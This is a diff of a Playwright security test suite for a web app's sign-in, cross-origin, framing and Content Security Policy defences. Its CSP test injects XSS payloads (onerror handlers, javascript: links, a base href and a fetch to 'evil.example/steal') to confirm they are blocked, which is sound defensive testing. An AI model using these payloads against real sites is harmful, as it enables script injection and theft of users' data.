@@ -26,9 +26,9 @@ const foreignUrl = () => `http://127.0.0.1:${(foreign.address() as AddressInfo).
 onDatabase('sqlite', 'attacks', (ground) => {
   test('no page of another origin can change anything with the session of its visitor [S86]', async () => {
     const { server } = ground;
-    const { page, context } = await ground.signedIn(server.owner);
+    const { page, context } = await ground.signedInAnew(server.owner);
     ground.tolerate(/CORS policy|Content Security Policy|ERR_/);
-    const others = await ground.signedIn(server.owner);
+    const others = await ground.signedInAnew(server.owner);
     foreignPage = '<!doctype html><title>evil</title>';
     await page.goto(foreignUrl());
     const answers = await page.evaluate(`(async () => {
@@ -82,8 +82,8 @@ onDatabase('sqlite', 'attacks', (ground) => {
     ground.tolerate(/frame|Content Security Policy|Refused to display/i);
     foreignPage = `<iframe src="${server.url}/account"></iframe><a id="a" target="_blank" rel="opener" href="${server.url}/account">x</a>`;
     await page.goto(foreignUrl());
-    await page.waitForTimeout(500);
     const frame = page.frames().find((one) => one !== page.mainFrame());
+    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
     expect(await frame?.locator('h1').count()).toBe(0);
     const [opened] = await Promise.all([context.waitForEvent('page'), page.locator('#a').click()]);
     await opened.getByRole('heading', { level: 1 }).waitFor();
@@ -94,9 +94,9 @@ onDatabase('sqlite', 'attacks', (ground) => {
     const { page } = await ground.signedIn(ground.server.owner);
     ground.tolerate(/Content Security Policy/);
     ground.tolerate(/unsafe-eval|EvalError/);
-    const found = await page.evaluate(`new Promise((resolve) => {
-      const refused = [];
-      document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
+    await page.evaluate(`(() => {
+      window.refused = new Set();
+      document.addEventListener('securitypolicyviolation', (event) => window.refused.add(event.effectiveDirective));
       const host = document.createElement('div');
       document.body.append(host);
       host.innerHTML = '<img src="x:" onerror="window.ran = 1"><p style="color: red">x</p><style>p { color: red }</style><a href="javascript:window.ran=2">x</a><base href="https://evil.example/"><script>window.ran = 3</script><iframe srcdoc="<script>parent.ran = 5</script>"></iframe>';
@@ -106,22 +106,23 @@ onDatabase('sqlite', 'attacks', (ground) => {
       fetch('https://evil.example/steal').catch(() => {});
       // Not at once: what the test itself evaluates is exempt.
       setTimeout(() => { (0, eval)('window.ran = 4'); });
-      setTimeout(() => resolve({ ran: window.ran, refused: [...new Set(refused)].sort(), base: document.baseURI }), 500);
-    })`);
-    expect(found).toEqual({
-      ran: undefined,
-      refused: expect.arrayContaining([
-        'base-uri',
-        'connect-src',
-        'img-src',
-        'script-src',
-        'script-src-attr',
-        'script-src-elem',
-        'style-src-attr',
-        'style-src-elem',
-      ]),
-      base: expect.stringContaining(ground.server.url),
-    });
+    })()`);
+    await expect
+      .poll(() => page.evaluate('[...window.refused].sort()'))
+      .toEqual(
+        expect.arrayContaining([
+          'base-uri',
+          'connect-src',
+          'img-src',
+          'script-src',
+          'script-src-attr',
+          'script-src-elem',
+          'style-src-attr',
+          'style-src-elem',
+        ]),
+      );
+    expect(await page.evaluate('window.ran')).toBeUndefined();
+    expect(await page.evaluate('document.baseURI')).toContain(ground.server.url);
   });
 
   test('naughty texts in names and user agents are shown as they are and do nothing [S88]', async () => {
@@ -163,7 +164,7 @@ onDatabase('sqlite', 'attacks', (ground) => {
 
   test('after signing out nothing is left, in this tab or another, and back shows nothing [S85, S91]', async () => {
     const { server } = ground;
-    const { page, context } = await ground.signedIn(server.owner);
+    const { page, context } = await ground.signedInAnew(server.owner);
     await page.goto(`${server.url}/account`);
     const other = await context.newPage();
     await other.goto(`${server.url}/account`);
@@ -195,6 +196,7 @@ onDatabase('sqlite', 'attacks', (ground) => {
     await context.clearCookies();
     await page.goBack();
     await page.waitForURL(/\/sign-in/);
+    await page.getByLabel('E-mail').waitFor();
     expect(await page.getByText(ground.server.owner.email).count()).toBe(0);
   });
 });
